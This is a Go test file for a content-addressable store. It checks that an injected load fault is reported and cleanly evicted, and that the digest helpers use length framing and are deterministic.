func TestInjectedLoadFault(t *testing.T) {
	defer fault.Reset()
	fault.Reset()
	s := open(t)
	if err := s.Put(testKind, "d1", &payload{Name: "x"}); err != nil {
		t.Fatal(err)
	}
	if err := fault.Arm(cas.SiteLoad, fault.InternalError); err != nil {
		t.Fatal(err)
	}
	var out payload
	ok, err := s.Get(testKind, "d1", &out)
	if ok {
		t.Fatal("injected load served a hit")
	}
	f, isFault := fault.Of(err)
	if !isFault || f.Site != cas.SiteLoad {
		t.Fatalf("injected fault = %v; want site %s", err, cas.SiteLoad)
	}
	if fault.Fired(cas.SiteLoad) != 1 {
		t.Fatalf("site fired %d times", fault.Fired(cas.SiteLoad))
	}
	// Evicted by the injected corruption; a recompute repopulates.
	if ok, err := s.Get(testKind, "d1", &out); ok || err != nil {
		t.Fatalf("post-injection Get = %v, %v; want clean miss", ok, err)
	}
	if err := s.Put(testKind, "d1", &payload{Name: "x"}); err != nil {
		t.Fatal(err)
	}
	if ok, err := s.Get(testKind, "d1", &out); !ok || err != nil {
		t.Fatalf("repopulated Get = %v, %v", ok, err)
	}
}

func TestDigestHelpers(t *testing.T) {
	if cas.DigestStrings("a", "b") == cas.DigestStrings("ab") {
		t.Fatal("length framing missing: (a,b) collides with (ab)")
	}
	if cas.DigestBytes([]byte{1}, []byte{2}) == cas.DigestBytes([]byte{1, 2}) {
		t.Fatal("length framing missing in DigestBytes")
	}
	if cas.DigestStrings("x") != cas.DigestStrings("x") {
		t.Fatal("digest not deterministic")
	}
}
